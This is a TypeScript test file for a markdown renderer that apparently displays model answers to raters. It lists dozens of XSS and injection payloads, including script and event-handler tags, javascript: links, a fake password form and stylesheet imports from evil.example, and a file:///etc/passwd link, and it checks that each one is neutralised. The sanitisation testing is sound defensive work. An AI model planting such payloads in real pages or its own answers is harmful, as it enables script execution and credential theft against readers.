import type { Element, ElementContent, Root, RootContent } from 'hast';
import { describe, expect, it } from 'vitest';
import { levelled } from '../../components/text/headings';
import { markdown } from '../../components/text/markdown';

type Any = Root | RootContent | ElementContent;

const elementsIn = (node: Any): readonly Element[] => [
  ...(node.type === 'element' ? [node] : []),
  ...('children' in node ? node.children.flatMap(elementsIn) : []),
];
const textIn = (node: Any): string =>
  node.type === 'text' ? node.value : 'children' in node ? node.children.map(textIn).join('') : '';
const tags = (source: string): readonly string[] =>
  elementsIn(markdown(source)).map(({ tagName }) => tagName);
const formulas = (source: string): readonly string[] =>
  elementsIn(markdown(source))
    .filter(({ properties }) => String(properties.className).startsWith('math'))
    .map((element) => `${String(element.properties.className)} ${textIn(element)}`);

/** What a model could write to run something in the page of who rates it. */
const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><input name=password><button>Sign in</button></form>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example)">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x" onerror="alert(1)](https://evil.example/x.png "a\\" onerror=\\"alert(1)")',
  '<javascript:alert(1)>',
  '<https://evil.example" onmouseover="alert(1)>',
  '```" onmouseover="alert(1)\nx\n```',
  '```html\n<script>alert(1)</script>\n```',
  '| <script>alert(1)</script> | `<img onerror=alert(1)>` |\n|-|-|\n| [x](javascript:1) | x |',
  '- [x] <input type=text>',
  'note[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '$\\href{javascript:alert(1)}{x}$',
  '$$\\htmlData{onclick=alert(1)}{x}$$',
  '$<img src=x onerror=alert(1)>$',
];

const TAGS = new Set([
  ...['h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'p', 'br', 'hr', 'blockquote', 'ul', 'ol', 'li'],
  ...['strong', 'em', 'del', 'sup', 'code', 'pre', 'a', 'img', 'section', 'input'],
  ...['table', 'thead', 'tbody', 'tr', 'th', 'td'],
]);
const PROPERTIES = new Set([
  ...['href', 'title', 'src', 'alt', 'className', 'start', 'align', 'type', 'checked', 'disabled'],
]);

describe('a text that attacks', () => {
  it.each(ATTACKS)('does nothing: %s', (attack) => {
    for (const { tagName, properties } of elementsIn(markdown(attack))) {
      expect(TAGS).toContain(tagName);
      for (const [name, value] of Object.entries(properties)) {
        expect(PROPERTIES).toContain(name);
        if (name === 'href' || name === 'src') {
          expect(String(value)).toMatch(/^(https?:\/\/|mailto:|#|\/\/)/);
        }
        if (tagName === 'input') {
          expect(properties).toMatchObject({ type: 'checkbox', disabled: true });
        }
      }
    }
  });

  it('is shown as it was written, so that nothing of an answer vanishes', () => {
    expect(textIn(markdown('sets <b>are</b> <script>alert(1)</script> cool'))).toBe(
      'sets <b>are</b> <script>alert(1)</script> cool',
    );
    expect(textIn(markdown('<div>\nblock\n</div>'))).toBe('<div>\nblock\n</div>');
  });

  it('breaks a line where a table could not otherwise', () => {
    expect(tags('| a |\n|-|\n| one<br>two |')).toContain('br');
  });
});

describe('Markdown', () => {
  it('knows lists, tables, code, quotes, what is struck out and tasks', () => {
    const source =
      '# T\n\n1. a\n2. b\n\n> q\n\n~~gone~~\n\n- [x] done\n\n| a |\n|-|\n| b |\n\n```js\n1\n```';
    expect(tags(source)).toEqual(
      expect.arrayContaining(['h1', 'ol', 'blockquote', 'del', 'input', 'table', 'pre']),
    );
  });

  it('keeps what follows one tilde', () => {
    expect(textIn(markdown('about ~5 or ~6'))).toBe('about ~5 or ~6');
  });

  it('sets headings below that of the page, without gaps', () => {
    const found = elementsIn(levelled(markdown('### a\n\n##### b\n\n#### c\n\n# d\n\n## e'), 3));
    expect(found.map(({ tagName }) => tagName)).toEqual(['h3', 'h4', 'h4', 'h3', 'h4']);
  });

  it('reads 20,000 signs of nothing but openings in less than two seconds', () => {
    const start = performance.now();
    ['\\(', '$a ', '[', '**a ', '<a ', '`', '| '].forEach((sign) => markdown(sign.repeat(5_000)));
    expect(performance.now() - start).toBeLessThan(14_000);
  });
});

describe('mathematics', () => {
  it.each([
    ['the sum $a_1 + b_1$ is', ['math-inline a_1 + b_1']],
    ['\\(x*y*z\\) and \\[\\frac{1}{2}\\]', ['math-inline x*y*z', 'math-display \\frac{1}{2}']],
    ['$$\n\\sum_{i=1}^n i\n$$', ['math-display \\sum_{i=1}^n i']],
    ['**bold $x$**', ['math-inline x']],
  ])('is found: %s', (source, expected) => {
    expect(formulas(source)).toEqual(expected);
  });

  it.each([
    'it costs $5 and then $10',
    'between $5-$10',
    'US$3 and A$4',
    'escaped \\$x\\$',
    'code `$x$` and `\\(y\\)`',
    '```\n$x$\n```',
    '[a $x$ link](https://example.org/$x$)',
    'a lone $ sign',
    '\\\\(no\\\\)',
  ])('is not seen where there is none: %s', (source) => {
    expect(formulas(source)).toEqual([]);
    expect(textIn(markdown(source))).not.toMatch(/[\uE000\uE001]/);
  });

  it('leaves a text alone that holds its own signs', () => {
    expect(formulas('\uE000 and $x$')).toEqual([]);
  });

  it('leaves what stands after it where it stands', () => {
    const source = 'the sum $a_1 + b_1$ is *good*';
    const em = elementsIn(markdown(source)).find(({ tagName }) => tagName === 'em');
    expect(em?.position?.start.offset).toBe(source.indexOf('*good*'));
  });
});
